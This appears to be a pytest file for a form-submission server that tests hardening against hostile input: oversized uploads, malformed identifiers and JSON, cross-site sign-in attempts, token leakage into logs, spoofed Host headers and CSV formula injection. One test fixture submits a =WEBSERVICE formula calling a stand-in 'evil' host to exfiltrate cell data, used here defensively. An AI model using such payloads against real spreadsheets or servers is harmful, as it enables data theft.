"""What stands at the door before anybody is known: bodies, identifiers, pages of other hosts, tokens in the log."""

import io
import os
from pathlib import Path

import pytest

from forms.base.blobs import BlobStore
from server.app import create_app
from server.intake.body import MOST_PARTS
from server.settings.listening import ServerSettings
from server.settings.settings import Settings
from server.store.database import Storage
from server.web.edge import own_address
from server.web.request_log import masked
from sync.instance.instance import InstanceIdUnusable, parse_instance
from tests.server.cast import Stage, stage
from tests.sheet_writer import instance_xml

__all__ = ["stage"]
SEND = "/v1/projects/1/submission"
OPENROSA = {"X-OpenRosa-Version": "1.0"}


def kept(stage: Stage) -> int:
    """How many files the blob store holds."""
    return sum(len(files) for _, _, files in os.walk(stage.folder / "blobs"))


def test_only_files_that_a_sheet_names_are_kept(stage: Stage) -> None:
    stage.reset()
    before = kept(stage)
    parts = {
        "xml_submission_file": (
            io.BytesIO(instance_xml("club", "1", {"/photo": "p.jpg"}, instance_id="uuid:p")),
            "x.xml",
        ),
        "p.jpg": (io.BytesIO(b"asked for"), "p.jpg"),
        "big.bin": (io.BytesIO(b"not asked for"), "big.bin"),
    }
    assert stage.call("link", "POST", SEND, data=parts, headers=OPENROSA).status_code == 201
    assert kept(stage) == before + 1
    files = stage.get("team", "/v1/projects/1/forms/club/submissions/uuid:p/attachments").get_json()
    assert files == [{"name": "p.jpg", "exists": True}]


def test_a_sheet_of_thousands_of_files_is_refused_and_nothing_of_it_kept(stage: Stage) -> None:
    stage.reset()
    before = kept(stage)
    xml = instance_xml("club", "1", {"/photo": "p.jpg"}, instance_id="uuid:many")
    parts = {"xml_submission_file": (io.BytesIO(xml), "x.xml")}
    parts |= {f"{n}.jpg": (io.BytesIO(b"%d" % n), f"{n}.jpg") for n in range(MOST_PARTS + 1)}
    assert stage.call("link", "POST", SEND, data=parts, headers=OPENROSA).status_code == 413
    assert kept(stage) == before


@pytest.mark.parametrize("name", ["x" * 256, "uuid:a\u202eb", "uuid:a\tb"])
def test_an_identifier_that_no_address_carries_is_refused(name: str) -> None:
    for element in ("instanceID", "deprecatedID"):
        ids = {"instanceID": "uuid:a", element: name}
        meta = "".join(f"<{key}>{value}</{key}>" for key, value in ids.items())
        with pytest.raises(InstanceIdUnusable):
            parse_instance(f'<data id="club"><meta>{meta}</meta></data>'.encode())
    assert parse_instance(f'<data id="c"><meta><instanceID>{"x" * 255}</instanceID></meta></data>'.encode())


@pytest.mark.parametrize(
    "body",
    [b"[" * 200_000, b'{"email": "\\ud800", "password": "x"}', b'{"email": "a", "password": "\\uDFFF"}'],
)
def test_json_that_nobody_can_write_down_is_no_failure_of_the_server(stage: Stage, body: bytes) -> None:
    answer = stage.client.post("/v1/sessions", data=body, content_type="application/json")
    assert answer.status_code == 400


@pytest.mark.parametrize(
    "headers",
    [
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
        {"Origin": "http://evil.example"},
        {"Origin": "null"},
    ],
)
def test_a_page_of_another_host_signs_nobody_in(stage: Stage, headers: dict[str, str]) -> None:
    for path in ("/sign-in", "/v1/sessions"):
        answer = stage.client.post(path, data={"email": "a@osc.ml", "password": "x"}, headers=headers)
        assert answer.status_code == 403
        assert "Set-Cookie" not in answer.headers
    own = {"Origin": "http://localhost", "Sec-Fetch-Site": "same-origin"}
    assert stage.client.post("/sign-in", data={"email": "a", "password": "x"}, headers=own).status_code == 401


@pytest.mark.parametrize(
    "path",
    ["/F/{}", "/v1/projects/1/app-users/{}", "/v1/key%2F{}/projects", "/invitation//{}", "/{}", "?x={}"],
)
def test_a_token_is_in_no_log_however_its_address_is_mistyped(path: str) -> None:
    token = "aZ09_-" * 10 + "abcd"
    assert len(token) == 64
    assert token not in masked(f"GET {path.format(token)} status=404")


def test_exports_hold_no_formula_in_any_column(stage: Stage) -> None:
    stage.reset()
    xml = instance_xml(
        "club", "1", {"/osc": "tagne", "/presents": 1}, instance_id='=WEBSERVICE("http://evil"&A2)'
    )
    assert (
        stage.call("link", "POST", SEND, data=xml, content_type="text/xml", headers=OPENROSA).status_code
        == 201
    )
    answer = stage.get("team", "/v1/projects/1/forms/club/submissions.csv")
    assert "WEBSERVICE" in answer.text
    assert ",=WEBSERVICE" not in answer.text
    assert '"=WEBSERVICE' not in answer.text


def test_an_address_with_a_token_names_the_configured_server_and_not_what_was_asked_for(
    tmp_path: Path,
) -> None:
    server = ServerSettings(public_url="https://fiche.example/")
    settings = Settings(tmp_path / "fiche.toml", tmp_path, server=server)
    app = create_app(settings, Storage(tmp_path / "fiche.db"), BlobStore(tmp_path / "blobs"))
    with app.test_request_context("/", headers={"Host": "stranger.example"}):
        assert own_address() == "https://fiche.example"
